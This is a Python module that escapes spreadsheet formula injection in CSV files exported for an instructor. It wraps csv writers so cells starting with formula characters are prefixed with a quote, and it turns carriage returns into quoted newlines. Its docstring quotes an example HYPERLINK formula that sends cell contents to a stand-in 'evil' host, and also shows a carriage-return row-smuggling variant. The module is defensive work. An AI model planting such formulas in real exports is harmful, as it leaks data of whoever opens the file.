"""The CSV files an instructor opens in a spreadsheet, written so that no cell is a formula.

A cell that starts with =, +, -, @, a tab, a carriage return or a line feed is a formula to Excel, LibreOffice
or Google Sheets: `=HYPERLINK("http://evil/?"&A1, "ok")` in a student's id, a file name or a message would
run when the instructor opens grades.csv. Such a text cell is written after a single quote, which
spreadsheets show as text and hide. Every CSV the project writes goes through `guarded_writer` or
`GuardedDictWriter`, so every cell is guarded, not only those someone thought a student could reach;
numbers (-2, +1.5, 3e-05) stay numbers, and so does a lone "-", Moodle's "no grade" (no formula either).

A carriage return inside a cell is the other way in: the csv module quotes a cell for the characters of its
line terminator only ("\n" here), so "ok\r=HYPERLINK(...)" was written unquoted, and spreadsheets that end
a row at a lone "\r" read a new row starting with the formula. It is written as "\n", which is quoted.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")  # ASCII digits only
_LONE_MINUS = "-"


def text_cell(value: object) -> str:
    """`value` as a cell no spreadsheet runs, a number made text too."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def cell(value: object) -> str:
    """Any cell as written: a number as the csv module writes it, anything else through `text_cell`."""
    if isinstance(value, float):
        text = repr(value)  # what csv.writer writes for a float
    else:
        text = ("" if value is None else str(value)).replace("\r\n", "\n").replace("\r", "\n")
    if text == _LONE_MINUS or _NUMBER.fullmatch(text):
        return text
    return text_cell(text)


def guarded_writer(buffer: Any, **options: Any) -> GuardedWriter:
    """csv.writer(buffer, **options), every cell through `cell`."""
    return GuardedWriter(csv.writer(buffer, **options))


class GuardedWriter:
    """A csv.writer's writerow and writerows, every cell through `cell` first."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class GuardedDictWriter(csv.DictWriter):
    """csv.DictWriter whose every cell, the header's too, goes through `cell`."""

    def writerow(self, rowdict: dict[str, Any]) -> Any:
        return super().writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[dict[str, Any]]) -> None:  # csv's own writes past writerow
        for rowdict in rowdicts:
            self.writerow(rowdict)
